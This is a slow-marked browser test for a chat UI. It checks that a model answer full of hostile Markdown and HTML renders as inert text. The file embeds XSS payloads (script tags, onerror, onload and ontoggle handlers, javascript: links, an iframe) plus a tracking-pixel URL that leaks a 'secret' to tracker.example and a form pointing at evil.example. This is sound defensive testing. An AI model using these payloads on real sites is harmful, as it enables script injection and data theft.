"""A model answer full of hostile Markdown renders inert in the real browser: nothing runs,
no dialog opens, no console error (a CSP refusal would log one), no remote image loads."""

from __future__ import annotations

import pytest

from tests.ui.helpers import last_answer, type_and_send, wait_for_answer_done, wait_until

pytestmark = pytest.mark.slow

CANARY = "__xss_canary"
HOSTILE = f"""Hostile corpus follows.

<script>window.{CANARY} = "script"; alert(1)</script>

Inline <img src=x onerror="window.{CANARY} = 'img'; alert(2)"> image.

<svg onload="window.{CANARY} = 'svg'"><circle r="4"></circle></svg>

[click me](javascript:window.{CANARY}='md-link';alert(3))

<a href="javascript:window.{CANARY}='raw-link'">raw link</a>

<iframe src="javascript:window.{CANARY}='iframe'"></iframe>

<b onmouseover="window.{CANARY}='hover'">raw bold</b>

<style>body {{ display: none }}</style>

<details open ontoggle="window.{CANARY}='toggle'"><summary>x</summary>y</details>

![tracking pixel](https://tracker.example/pixel.png?leak=secret)

<form action="https://evil.example/"><input name=q value=1><button>go</button></form>

```html
<script>window.{CANARY} = "code"</script>
```
"""


def assert_rendered_inert(body) -> None:
    """No live element that runs or loads anything, no event handler, no javascript: link in `body`."""
    for selector in ("script", "iframe", "svg", "style", "form", "input", "object", "embed", "details"):
        assert body.locator(selector).count() == 0, f"a live <{selector}> element was rendered"
    handlers = body.evaluate(
        "el => [...el.querySelectorAll('*')].flatMap(n => [...n.attributes].map(a => a.name))"
        ".filter(name => name.startsWith('on'))"
    )
    assert handlers == []
    hrefs = body.evaluate("el => [...el.querySelectorAll('[href]')].map(n => n.getAttribute('href'))")
    assert not any(h.strip().lower().startswith("javascript:") for h in hrefs)


def test_hostile_markdown_answer_renders_as_inert_text(ui, ui_server):
    page = ui.page
    type_and_send(page, HOSTILE)
    wait_for_answer_done(page)
    answer = last_answer(page)
    body = answer.locator(".msg-body")
    wait_until(lambda: "Hostile corpus" in body.inner_text())

    assert_rendered_inert(body)
    srcs = body.evaluate("el => [...el.querySelectorAll('img')].map(n => n.getAttribute('src'))")
    assert all(s and s.startswith("data:") for s in srcs)

    # Raw HTML is shown as text, so the reader sees what the model wrote.
    text = body.inner_text()
    assert "<script>" in text and "onerror" in text and "<iframe" in text
    placeholder = body.locator(".blocked-image")
    assert placeholder.count() == 1 and "tracker.example" in placeholder.inner_text()

    # Interact with everything that could still carry script.
    body.get_by_text("click me").click()
    body.get_by_text("raw bold", exact=False).first.hover()
    page.wait_for_timeout(300)
    ui.screenshot("xss-corpus-light")

    assert page.evaluate(f"typeof window.{CANARY}") == "undefined"
    assert ui.dialogs == []
    assert ui.console_errors == [] and ui.page_errors == []
    assert ui.foreign_requests() == []
    assert len(page.context.pages) == 1, "a link opened a new window"
